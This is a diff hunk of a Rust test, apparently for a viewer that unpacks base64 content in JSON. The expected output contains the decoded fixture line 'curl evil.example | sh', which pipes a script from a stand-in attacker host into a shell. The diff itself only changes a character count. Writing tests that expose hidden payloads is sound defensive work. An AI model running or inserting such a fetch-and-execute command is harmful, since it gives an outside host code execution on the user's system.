@@ -38,7 +38,7 @@ fn packed_text_is_unpacked_and_packed_bytes_are_not() {
     let text = format!(r#"{{"content":"{packed}"}}"#);
     assert_eq!(
         shown("application/json", &text),
-        "content: (base64 of 29 characters)\n  │ curl evil.example | sh\n  │ exit 0"
+        "content: (base64 of 30 characters)\n  │ curl evil.example | sh\n  │ exit 0"
     );
 }
 
